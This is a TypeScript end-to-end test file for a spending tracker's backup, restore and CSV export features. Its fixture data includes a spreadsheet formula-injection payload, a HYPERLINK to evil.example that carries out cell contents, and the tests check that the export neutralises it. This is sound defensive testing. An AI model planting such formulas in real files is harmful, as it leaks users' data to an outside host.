import Papa from 'papaparse';
import type { Purchase } from '@/utils/spending/purchase';
import type { Driver } from './drivers/driver';
import { until } from './drivers/until';
import { expect, test } from './fixtures';
import {
  ask,
  buy,
  chooseFile,
  counted,
  euros,
  kandaBooks,
  ledgerOf,
  monthsOf,
  openPurchase,
  purchaseAt,
  reads,
  startLedger,
  tick,
} from './ledger';
import { fill, press, textOf } from './person';
import { said } from './shopper';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';

/** A ledger with something of everything, and the total of this month: 80.00 + 62.07 + 37.17 − 30.00 euros. */
async function fillLedger(driver: Driver): Promise<void> {
  await startLedger(driver, { limit: euros(500_00), resetDay: 7, refundsCountIn: 'refund' });
  const { start } = (await monthsOf(driver)).now;
  const teapot = await buy(driver, {
    shop: 'Teapot House',
    amount: euros(80_00),
    orderedOn: start,
    note: FORMULA,
    category: '@home',
    orderNumber: '-12',
    trackingNumbers: ['RB123456785CN', '+4471'],
  });
  await buy(driver, {
    ...kandaBooks(start),
    shop: '+Kanda Books, "old & new"',
    note: 'two\nlines; three, commas',
  });
  await buy(driver, {
    shop: 'سوق الكويت',
    amount: { minor: 12_345, currency: 'KWD' },
    rate: { value: '3.0112', date: start, source: 'typed' },
    feePercent: '0',
    orderedOn: start,
    country: 'KW',
  });
  const refund = { amount: euros(30_00), date: start, home: null };
  await ask(driver, {
    type: 'add-refund',
    id: teapot.id,
    refund: { ...refund, state: 'received', note: '\t=1+1' },
  });
  await ask(driver, {
    type: 'add-refund',
    id: teapot.id,
    refund: { ...refund, state: 'promised', note: '' },
  });
}
const NET = 80_00 + 62_07 + 37_17 - 30_00;

const byId = (purchases: readonly Purchase[]): Purchase[] =>
  [...purchases].sort((left, right) => (left.id < right.id ? -1 : 1));

test('everything comes back from its file after all was erased, and nothing comes twice', async ({
  driver,
}) => {
  await fillLedger(driver);
  const before = { ledger: await ledgerOf(driver), months: await monthsOf(driver) };
  const settings = await ask(driver, { type: 'settings' });
  expect(before.months.now.left).toEqual(euros(500_00 - NET));

  const page = await driver.openOwn('spending.html');
  await reads(page, '€350.76 left');
  await press(page, said('files_erase'));
  await reads(page, said('files_erase_sure'));
  const file = await page.download(() => press(page, said('files_erase_file_first')));
  expect(file.name).toMatch(/^tillwatch-\d{4}-\d\d-\d\d\.json$/);
  expect(await ledgerOf(driver)).toEqual(before.ledger);
  await press(page, said('files_erase_now'));
  await reads(page, said('files_erased'), said('purchases_none'));
  expect(await ledgerOf(driver)).toEqual([]);
  expect(await ask(driver, { type: 'settings' })).toMatchObject({ limits: [], resetDay: 1 });

  await chooseFile(page, file.name, file.text);
  await reads(page, counted('import_added_other', 3));
  await tick(page, said('import_mode_restore'));
  await reads(page, said('import_replaced'), counted('import_removed_other', 0));
  expect(await ledgerOf(driver)).toEqual([]);
  await press(page, said('import_confirm'));
  await reads(page, said('import_done'), '€350.76 left', 'Teapot House');
  expect(await ledgerOf(driver)).toEqual(before.ledger);
  expect(await monthsOf(driver)).toEqual(before.months);
  expect(await ask(driver, { type: 'settings' })).toEqual(settings);

  await chooseFile(page, file.name, file.text);
  await reads(page, counted('import_added_other', 0), counted('import_same_other', 3));
  await press(page, said('import_confirm'));
  await reads(page, said('import_done'));
  expect(await ledgerOf(driver)).toEqual(before.ledger);
  expect(await monthsOf(driver)).toEqual(before.months);
  await page.close();
});

test('an older file undoes no later change, unless it takes the place of what is here', async ({
  driver,
}) => {
  await fillLedger(driver);
  const old = await ledgerOf(driver);
  const page = await driver.openOwn('spending.html');
  const file = await page.download(() => press(page, said('files_json')));
  await reads(page, said('files_written'));

  await openPurchase(page, 'سوق الكويت');
  await fill(page, said('editor_note'), 'a blue one');
  await press(page, said('editor_save'));
  await reads(page, said('editor_saved'));
  await buy(driver, { shop: 'Later Shop', amount: euros(9_99), orderedOn: '2026-01-10' });
  const now = await ledgerOf(driver);

  await chooseFile(page, file.name, file.text);
  await reads(page, counted('import_changed_other', 0), counted('import_same_other', 3));
  await press(page, said('import_confirm'));
  await reads(page, said('import_done'));
  expect(await ledgerOf(driver)).toEqual(now);

  await chooseFile(page, file.name, file.text);
  await tick(page, said('import_mode_restore'));
  await reads(page, counted('import_changed_one', 1), counted('import_removed_one', 1));
  await press(page, said('import_confirm'));
  await reads(page, said('import_done'), said('purchases_removed').replace('{shop}', 'Later Shop'));
  expect(await ledgerOf(driver)).toEqual(old);

  await press(page, said('purchases_undo'));
  await until('what the file did not have is back', async () => (await ledgerOf(driver)).length === 4);
  expect((await purchaseAt(driver, 'Later Shop')).home).toEqual(euros(9_99));

  await chooseFile(page, file.name, file.text.replace('Teapot House', 'Teapot Horse'));
  await reads(page, said('import_damaged'));
  expect(await ledgerOf(driver)).toHaveLength(4);
  await page.close();
});

test('a file for spreadsheets runs nothing there, and brings the same purchases back', async ({ driver }) => {
  await fillLedger(driver);
  const before = { ledger: await ledgerOf(driver), months: await monthsOf(driver) };
  const page = await driver.openOwn('spending.html');
  const file = await page.download(() => press(page, said('files_csv')));
  expect(file.name).toMatch(/^tillwatch-\d{4}-\d\d-\d\d\.csv$/);
  expect(file.text.startsWith('\ufeff')).toBe(true);
  const rows = Papa.parse<string[]>(file.text.slice(1).trimEnd()).data;
  expect(rows).toHaveLength(1 + 3 + 2);
  expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
  expect(rows.flat()).toContain(`'${FORMULA}`);

  for (const { id } of before.ledger) await ask(driver, { type: 'remove-purchase', id });
  await chooseFile(page, file.name, file.text);
  await reads(page, counted('import_added_other', 3));
  expect(await textOf(page)).not.toContain(said('import_mode'));
  await press(page, said('import_confirm'));
  await reads(page, said('import_done'), '€350.76 left');
  expect(byId(await ledgerOf(driver))).toEqual(byId(before.ledger));
  expect(await monthsOf(driver)).toEqual(before.months);

  await chooseFile(page, file.name, file.text);
  await reads(page, counted('import_same_other', 3));
  await press(page, said('import_cancel'));
  expect(await ledgerOf(driver)).toHaveLength(3);
  await page.close();
});

test('a backup is asked for when much has changed, and no longer once it is taken', async ({ driver }) => {
  await startLedger(driver);
  const add = (many: number) =>
    Promise.all(
      Array.from({ length: many }, (_, at) =>
        buy(driver, { shop: `Shop ${at}`, amount: euros(100 + at), orderedOn: '2026-01-10' }),
      ),
    );
  await add(49);
  const page = await driver.openOwn('spending.html');
  const due = counted('files_backup_due_other', 50);
  await reads(page, said('files_json'));
  expect(await textOf(page)).not.toContain(due.slice(2));
  await add(1);
  await reads(page, due);

  // A file for spreadsheets is no backup: it lacks the settings and the rates.
  await page.download(() => press(page, said('files_csv')));
  await reads(page, said('files_written'));
  expect(await textOf(page)).toContain(due);

  await page.download(() => press(page, said('files_json')));
  await until('nothing is asked for any more', async () => !(await textOf(page)).includes(due.slice(2)));
  await page.close();
  await driver.stopBackground();
  const again = await driver.openOwn('spending.html');
  await reads(again, counted('purchases_shown_other', 25));
  expect(await textOf(again)).not.toContain(due.slice(2));
  expect(await ask(driver, { type: 'backup' })).toMatchObject({ value: { changes: 0, due: false } });
  await again.close();
});
